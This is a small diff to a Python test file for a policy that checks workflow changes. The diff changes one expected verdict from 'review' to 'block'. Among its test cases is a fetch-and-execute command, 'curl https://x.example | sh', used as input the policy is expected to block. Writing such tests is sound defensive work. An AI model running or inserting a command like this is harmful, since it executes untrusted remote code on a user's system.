@@ -106,7 +106,7 @@ def test_a_proven_change_in_one_sample_is_not_outvoted(policy):
 OTHERS = {
     "a lost critical step": (lambda flow: {**flow, "steps": flow["steps"][:2] + flow["steps"][3:]}, "block"),
     "another command": (lambda flow: first(flow, step(RULE, "curl https://x.example | sh")), "block"),
-    "another number": (lambda flow: first(flow, step("Keep the backups for 3 days", "./0.sh")), "review"),
+    "another number": (lambda flow: first(flow, step("Keep the backups for 3 days", "./0.sh")), "block"),
 }
 
 
